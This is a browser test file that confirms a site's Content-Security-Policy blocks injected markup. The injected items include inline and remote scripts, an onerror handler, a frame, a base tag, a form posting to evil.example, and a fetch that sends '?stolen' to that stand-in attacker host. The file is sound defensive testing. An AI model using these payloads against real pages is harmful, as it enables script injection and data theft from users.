import {expect, test} from './support';

/** Tests what the Content-Security-Policy of a page blocks. All other tests show that it allows what the page needs. */

declare global {
  interface Window {
    /** The directives that have blocked something, in order of time. */
    blockedBy: string[];
  }
}

/** What an attacker might inject into a page, and the directive that blocks it. */
const attacks: {name: string; directive: string; markup?: string}[] = [
  {
    name: 'a script in an attribute',
    markup: '<img src="/nope.png" onerror="document.title = \'taken over\'">',
    directive: 'script-src-attr',
  },
  {name: 'a style in an attribute', markup: '<p style="position: fixed; inset: 0">', directive: 'style-src-attr'},
  {
    name: 'a frame',
    markup: '<iframe src="https://evil.example/"></iframe>',
    directive: 'frame-src',
  },
  {
    name: 'a script',
    markup: '<script>document.title = "taken over"</script>',
    directive: 'script-src-elem',
  },
  {
    name: 'a script of another server',
    markup: '<script src="https://evil.example/x.js"></script>',
    directive: 'script-src-elem',
  },
  {name: 'a base for all addresses', markup: '<base href="https://evil.example/">', directive: 'base-uri'},
  {
    name: 'a form to another server',
    markup: '<form action="https://evil.example/" method="post"></form>',
    directive: 'form-action',
  },
  {name: 'a request to another server', directive: 'connect-src'},
];

test('scripts, styles, frames, forms and requests that were injected are blocked', async ({page, problems}) => {
  await page.addInitScript(() => {
    window.blockedBy = [];
    document.addEventListener('securitypolicyviolation', ({effectiveDirective}) =>
      window.blockedBy.push(effectiveDirective),
    );
  });
  const reached: string[] = [];
  await page.route('https://evil.example/**', (route) => {
    reached.push(route.request().url());
    return route.abort();
  });
  await page.goto('/contact');
  for (const {name, markup, directive} of attacks) {
    const before = await page.evaluate(() => window.blockedBy.length);
    problems.length = 0;
    await page.evaluate((markup) => {
      if (!markup) {
        // The error is expected. The test checks below that nothing was requested.
        fetch('https://evil.example/?stolen').catch(() => {});
        return;
      }
      // Unlike innerHTML, a fragment would run its scripts.
      document.body.append(document.createRange().createContextualFragment(markup));
      document.querySelector<HTMLFormElement>('body > form')?.submit();
    }, markup);
    const blockedBy = () => page.evaluate((before) => window.blockedBy.slice(before), before);
    await expect.poll(blockedBy, name).toContain(directive);
    // The browser logs the violation, which would fail any other test.
    await expect.poll(() => problems.length, name).toBeGreaterThan(0);
  }
  expect(await page.title()).not.toBe('taken over');
  expect(await page.evaluate(() => document.baseURI)).toMatch(/^http:\/\/localhost/);
  expect(page.url()).toMatch(/\/contact$/);
  expect(reached).toEqual([]);
  problems.length = 0;
});
